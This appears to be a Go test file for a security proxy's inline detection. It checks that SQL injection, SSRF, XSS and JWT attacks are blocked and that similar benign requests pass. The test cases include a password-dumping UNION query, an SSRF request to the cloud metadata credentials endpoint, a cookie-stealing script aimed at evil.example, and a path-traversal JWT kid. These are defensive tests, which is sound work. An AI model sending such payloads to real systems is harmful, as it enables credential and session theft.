package proxy

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/vigilsec/vigil"
	"github.com/vigilsec/vigil/detect"
	"github.com/vigilsec/vigil/respond"
)

// requestDetectors are the detectors cmd/vigil runs in line.
func requestDetectors(t testing.TB) []vigil.Analyzer {
	t.Helper()
	var fs []detect.Factory
	for _, f := range detect.Builtin() {
		if strings.HasPrefix(f.ID, "detect.injection.") || f.ID == "detect.ssrf" || f.ID == "detect.auth.jwt" {
			fs = append(fs, f)
		}
	}
	as, err := detect.New(fs)
	if err != nil {
		t.Fatal(err)
	}
	return as
}

func policy(t testing.TB, mode string) *respond.Policy {
	t.Helper()
	p := respond.DefaultPolicy()
	p.Mode = mode
	if err := p.Validate(); err != nil {
		t.Fatal(err)
	}
	return p
}

func TestInlineBlocksInLine(t *testing.T) {
	tests := []struct {
		name        string
		mode        string
		method      string
		target      string // path and query
		contentType string
		bearer      string // a JWT for Authorization, if any
		body        string
		wantStatus  int
		wantHits    int64
	}{
		// Attacks.
		{"sqli in query", respond.ModeEnforce, "GET", "/products?id=1'+UNION+SELECT+password+FROM+users--", "", "", "", 403, 0},
		{"sqli in JSON body", respond.ModeEnforce, "POST", "/login", "application/json", "",
			`{"user":"admin' OR '1'='1' --","password":"x"}`, 403, 0},
		{"ssrf to metadata", respond.ModeEnforce, "POST", "/webhooks", "application/json", "",
			`{"url":"http://169.254.169.254/latest/meta-data/iam/security-credentials/"}`, 403, 0},
		{"xss in form", respond.ModeEnforce, "POST", "/comments", "application/x-www-form-urlencoded", "",
			"text=" + url.QueryEscape(`<script>document.location='http://evil.example/?c='+document.cookie</script>`), 403, 0},
		{"jwt kid path traversal", respond.ModeEnforce, "GET", "/orders", "", jwtWithKid(t, "../../../../../../dev/null"), "", 403, 0},
		// The same attack in monitor mode goes through: only enforce stops.
		{"sqli in monitor mode", respond.ModeMonitor, "GET", "/products?id=1'+UNION+SELECT+password+FROM+users--", "", "", "", 200, 1},
		// Benign twins that look close.
		{"name with apostrophe", respond.ModeEnforce, "GET", "/users?name=O'Brien", "", "", "", 200, 1},
		{"search for select", respond.ModeEnforce, "GET", "/search?q=select+the+best+union+jack+flag", "", "", "", 200, 1},
		{"JSON with a public webhook", respond.ModeEnforce, "POST", "/webhooks", "application/json", "",
			`{"url":"https://hooks.example.com/deliver","events":["order.created"]}`, 200, 1},
		{"comment with angle brackets", respond.ModeEnforce, "POST", "/comments", "application/x-www-form-urlencoded", "",
			"text=" + url.QueryEscape("2 < 3 and 5 > 4, <b>bold</b> claims"), 200, 1},
		{"jwt with an ordinary kid", respond.ModeEnforce, "GET", "/orders", "", jwtWithKid(t, "key-2026-01"), "", 200, 1},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			pol := policy(t, tt.mode)
			e := newEnv(t, http.HandlerFunc(echo), Config{Inline: &Inline{
				Analyzers: requestDetectors(t),
				Stops:     pol.Stops,
				Deadline:  500 * time.Millisecond, // generous: this test is not about overruns
			}}, nil, nil)
			req, _ := http.NewRequest(tt.method, e.front.URL+tt.target, strings.NewReader(tt.body))
			if tt.contentType != "" {
				req.Header.Set("Content-Type", tt.contentType)
			}
			if tt.bearer != "" {
				req.Header.Set("Authorization", "Bearer "+tt.bearer)
			}
			resp, err := e.client.Do(req)
			if err != nil {
				t.Fatal(err)
			}
			if resp.StatusCode != tt.wantStatus {
				t.Errorf("status %d, want %d", resp.StatusCode, tt.wantStatus)
			}
			if resp.StatusCode == 403 {
				ej := decodeError(t, resp)
				if ej.Error.Code != CodeBlocked || resp.Header.Get(HeaderAction) != "block" {
					t.Errorf("code %q, action %q: want blocked, block", ej.Error.Code, resp.Header.Get(HeaderAction))
				}
			} else {
				got, _ := io.ReadAll(resp.Body)
				resp.Body.Close()
				if string(got) != tt.body {
					t.Errorf("upstream got body %q, want %q", got, tt.body)
				}
			}
			x := e.rec.next(t) // submitted either way: the pipeline records the finding
			if string(x.Request.Body) != tt.body {
				t.Errorf("captured body %q, want %q", x.Request.Body, tt.body)
			}
			if got := e.hits.Load(); got != tt.wantHits {
				t.Errorf("upstream hits %d, want %d", got, tt.wantHits)
			}
			s := e.proxy.Stats()
			if s.InlineChecks != 1 || s.InlineBlocked != uint64(1-tt.wantHits) || s.InlineOverruns != 0 {
				t.Errorf("stats %+v", s)
			}
		})
	}
}

// jwtWithKid makes an HS256-looking token with the given kid header (the
// signature is not checked in line).
func jwtWithKid(t *testing.T, kid string) string {
	t.Helper()
	enc := func(v any) string {
		b, err := json.Marshal(v)
		if err != nil {
			t.Fatal(err)
		}
		return base64.RawURLEncoding.EncodeToString(b)
	}
	return enc(map[string]string{"alg": "HS256", "typ": "JWT", "kid": kid}) + "." +
		enc(map[string]any{"sub": "alice", "exp": 4102444800}) + ".c2lnbmF0dXJl"
}

// gate is an analyzer that finds nothing and waits for release first,
// or fails as told.
type gate struct {
	release chan struct{}
	err     error
	panics  bool
}

func (g *gate) Analyze(ctx context.Context, _ *vigil.Exchange) ([]vigil.Finding, error) {
	if g.panics {
		panic("analyzer bug")
	}
	if g.release != nil {
		<-g.release // ignores ctx on purpose: a badly behaved analyzer
	}
	return nil, g.err
}

func TestInlineOverrun(t *testing.T) {
	tests := []struct {
		name       string
		gate       *gate
		maxFlight  int
		path       string
		wantStatus int
		wantCode   string
		stat       func(Stats) uint64
	}{
		{"fail-open forwards", &gate{release: make(chan struct{})}, 0, "/orders", 200, "", func(s Stats) uint64 { return s.InlineOverruns }},
		{"fail-closed route answers 503", &gate{release: make(chan struct{})}, 0, "/admin/users", 503, CodeInlineUnavailable,
			func(s Stats) uint64 { return s.InlineFailedClosed }},
		{"templated fail-closed route", &gate{release: make(chan struct{})}, 0, "/users/42/payment", 503, CodeInlineUnavailable,
			func(s Stats) uint64 { return s.InlineFailedClosed }},
		{"look-alike of a fail-closed route", &gate{release: make(chan struct{})}, 0, "/administrator", 200, "",
			func(s Stats) uint64 { return s.InlineOverruns }},
		{"no room to run counts as overrun", &gate{release: make(chan struct{})}, 1, "/admin", 503, CodeInlineUnavailable,
			func(s Stats) uint64 { return s.InlineOverruns }},
		{"analyzer error fails open", &gate{err: errors.New("broken")}, 0, "/orders", 200, "", func(s Stats) uint64 { return s.InlineErrors }},
		{"analyzer panic fails closed", &gate{panics: true}, 0, "/admin", 503, CodeInlineUnavailable, func(s Stats) uint64 { return s.InlineErrors }},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			e := newEnv(t, http.HandlerFunc(echo), Config{Inline: &Inline{
				Analyzers:   []vigil.Analyzer{tt.gate},
				Stops:       func(*vigil.Finding) bool { return true },
				Deadline:    5 * time.Millisecond,
				FailClosed:  []string{"/admin", "/users/{id}/payment"},
				MaxInFlight: tt.maxFlight,
			}}, nil, nil)
			if tt.gate.release != nil {
				// Let the abandoned checks finish before goleak looks.
				t.Cleanup(func() { close(tt.gate.release) })
			}
			if tt.maxFlight == 1 {
				// Fill the only slot with a check that overruns and stays.
				resp, err := e.client.Get(e.front.URL + "/orders")
				if err != nil {
					t.Fatal(err)
				}
				resp.Body.Close()
				e.rec.next(t)
			}
			resp, err := e.client.Get(e.front.URL + tt.path)
			if err != nil {
				t.Fatal(err)
			}
			if resp.StatusCode != tt.wantStatus {
				t.Errorf("status %d, want %d", resp.StatusCode, tt.wantStatus)
			}
			if tt.wantCode != "" {
				if ej := decodeError(t, resp); ej.Error.Code != tt.wantCode {
					t.Errorf("code %q, want %q", ej.Error.Code, tt.wantCode)
				}
			} else {
				resp.Body.Close()
			}
			e.rec.next(t)
			if tt.stat(e.proxy.Stats()) == 0 {
				t.Errorf("counter not incremented: %+v", e.proxy.Stats())
			}
		})
	}
}

func TestInlineLargeBodyStreamsWhole(t *testing.T) {
	e := newEnv(t, http.HandlerFunc(echo), Config{CaptureBytes: 16, Inline: &Inline{Analyzers: requestDetectors(t)}}, nil, nil)
	for _, chunked := range []bool{false, true} {
		body := strings.Repeat("0123456789abcdef", 10_000)
		var rd io.Reader = strings.NewReader(body)
		if chunked {
			rd = io.MultiReader(rd) // hides the length: chunked encoding
		}
		resp, err := e.client.Post(e.front.URL+"/upload", "application/octet-stream", rd)
		if err != nil {
			t.Fatal(err)
		}
		got, _ := io.ReadAll(resp.Body)
		resp.Body.Close()
		if string(got) != body {
			t.Errorf("chunked=%v: upstream got %d bytes, want %d", chunked, len(got), len(body))
		}
		x := e.rec.next(t)
		if string(x.Request.Body) != body[:16] || x.Request.BodySize != int64(len(body)) || !x.Request.Truncated {
			t.Errorf("chunked=%v: capture %q size %d truncated %v", chunked, x.Request.Body, x.Request.BodySize, x.Request.Truncated)
		}
	}
}

func TestNewRejectsBadInline(t *testing.T) {
	for _, in := range []*Inline{
		{Deadline: -time.Second},
		{Deadline: 2 * MaxInlineDeadline},
		{FailClosed: []string{"admin"}},
		{FailClosed: []string{"/admin?x=1"}},
	} {
		if _, err := New(Config{Upstream: "http://127.0.0.1:1", Inline: in}, nil, nil, nil, nil); vigil.ErrorCode(err) != vigil.EINVALID {
			t.Errorf("New(%+v) = %v, want EINVALID", in, err)
		}
	}
}

func TestMatchRoute(t *testing.T) {
	tests := []struct {
		route, path string
		want        bool
	}{
		{"/", "/anything", true},
		{"/admin", "/admin", true},
		{"/admin", "/admin/", true},
		{"/admin", "/admin/users/1", true},
		{"/admin", "/administrator", false},
		{"/admin", "/", false},
		{"/admin", "//admin", true},
		{"/admin", "/public/../admin", true},
		{"/users/{id}/payment", "/users/42/payment", true},
		{"/users/{id}/payment", "/users/42/payment/cards", true},
		{"/users/{id}/payment", "/users/42", false},
		{"/users/{id}/payment", "/users//payment", false},
		{"/users/*/payment", "/users/7/payment", true},
		{"/users/{id}/payment", "/users/42/profile", false},
	}
	for _, tt := range tests {
		segs, err := parseRoute(tt.route)
		if err != nil {
			t.Fatal(err)
		}
		if got := matchRoute(segs, tt.path); got != tt.want {
			t.Errorf("matchRoute(%q, %q) = %v, want %v", tt.route, tt.path, got, tt.want)
		}
	}
}

func FuzzMatchRoute(f *testing.F) {
	f.Add("/admin", "/admin/users")
	f.Add("/users/{id}/payment", "/users/42/payment")
	f.Add("/", "//x/../y")
	f.Fuzz(func(t *testing.T, route, path string) {
		segs, err := parseRoute(route)
		if err != nil {
			return
		}
		if matchRoute(segs, path) && route != "/" && !strings.HasPrefix(route, "/{") && !strings.HasPrefix(route, "/*") {
			// A literal first segment must be there.
			first := strings.Split(strings.Trim(route, "/"), "/")[0]
			if !strings.Contains(path, first) {
				t.Errorf("%q matched %q without its first segment %q", route, path, first)
			}
		}
	})
}

// BenchmarkInlineCheck times the inline check of a 1 KB JSON POST against
// calling the same analyzers directly on the handler's goroutine (the
// baseline): the ratio is the cost of the deadline (a goroutine, a timer, a
// channel).
func BenchmarkInlineCheck(b *testing.B) {
	body := []byte(`{"product_id":42,"quantity":1,"note":"` + strings.Repeat("x", 980) + `"}`)
	u, _ := url.Parse("http://shop.example/api/v2/cart/items")
	x := &vigil.Exchange{Request: vigil.Request{Method: "POST", URL: u, Proto: "HTTP/1.1",
		Header: http.Header{"Content-Type": {"application/json"}, "Authorization": {"Bearer opaque-token-1234"}},
		Body:   body, BodySize: int64(len(body))}, Actor: vigil.Actor{Addr: "192.0.2.1"}}
	as := requestDetectors(b)
	pol := policy(b, respond.ModeEnforce)
	in, err := newInline(&Inline{Analyzers: as, Stops: pol.Stops, Deadline: time.Second})
	if err != nil {
		b.Fatal(err)
	}
	ctx := context.Background()
	var direct float64
	b.Run("direct", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			for _, a := range as {
				if _, err := a.Analyze(ctx, x); err != nil {
					b.Fatal(err)
				}
			}
		}
		direct = float64(b.Elapsed().Nanoseconds()) / float64(b.N)
	})
	b.Run("inline", func(b *testing.B) {
		b.ReportAllocs()
		for b.Loop() {
			if r := in.check(ctx, x); r.v != verdictPass {
				b.Fatalf("verdict %d", r.v)
			}
		}
		if direct > 0 {
			b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/direct, "x-direct")
		}
	})
}
